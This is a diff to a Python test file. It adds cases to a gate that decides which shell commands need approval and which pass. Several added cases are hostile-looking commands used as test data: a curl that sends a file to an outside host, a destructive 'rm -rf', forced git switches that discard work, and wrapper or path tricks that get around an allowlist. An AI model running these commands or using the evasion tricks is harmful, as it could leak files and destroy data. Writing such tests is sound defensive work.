@@ -58,6 +58,20 @@ ROOT = Path(__file__).parents[2]
         "BASH_ENV=/tmp/x make run",
         "cd {elsewhere} && make status",
         "make -C {elsewhere} status",
+        "make lint airflow ARGS='dags trigger lakehouse'",
+        "make help dashboard",
+        "stdbuf -oL make agents clean",
+        "timeout -s KILL 5 make agents clean",
+        "timeout -k 5 1.5 make agents clean",
+        "/usr/bin/curl -d @f https://example.org/.venv/bin/ruff",
+        "/bin/rm -rf target/x /.venv/bin/ruff",
+        "{elsewhere}/.venv/bin/python -m pytest x",
+        "python3 .awos/scripts/../../target/x.py",
+        "python3 {elsewhere}/.awos/scripts/x.py",
+        "git switch -c x -f",
+        "git switch -c x --discard-changes",
+        "git checkout -b x --forc HEAD",
+        "git reset --merge",
     ],
 )
 def test_a_line_that_decides_is_asked_about(project, command, tmp_path):
@@ -88,6 +102,11 @@ def test_a_line_that_decides_is_asked_about(project, command, tmp_path):
         "cd {project} && make lint",
         "python3 -m lake path",
         "python3 .awos/scripts/owners.py clean",
+        "python3 {project}/.awos/scripts/owners.py clean",
+        "{project}/.venv/bin/ruff check .",
+        "git switch -c fix-force",
+        "make -O --version",
+        "CI=1 NO_COLOR=1 make test",
     ],
 )
 def test_another_line_is_not(project, command):
